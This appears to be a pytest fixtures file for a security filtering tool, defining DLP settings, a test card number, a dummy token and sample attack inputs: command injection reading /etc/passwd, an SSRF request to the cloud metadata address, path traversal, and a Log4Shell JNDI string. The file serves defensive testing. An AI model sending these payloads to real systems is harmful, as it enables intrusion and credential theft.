"""Shared fixtures and payloads for the ironward pytest suites."""

import pytest

# Quiet, no cross-test state, DLP on for card numbers and API tokens.
BASE = {
    "VERBOSE": 0,
    "SECURITY_CHECKS.dlp": 1,
    "DLP_CC_NUMBERS": True,
    "DLP_API": True,
}

CARD = "4111111111111111"
TOKEN = "ghp_" + "a" * 36

ATTACK_QUERY = "q=%3Bcat+%2Fetc%2Fpasswd"  # ;cat /etc/passwd
SSRF_JSON = {"callback": "http://169.254.169.254/latest/meta-data/"}
TRAVERSAL_FORM = {"file": "../../../etc/passwd"}
JNDI = "${jndi:ldap://x/a}"


def params(**extra):
    p = dict(BASE)
    p.update(extra)
    return p


@pytest.fixture
def base_params():
    return params()
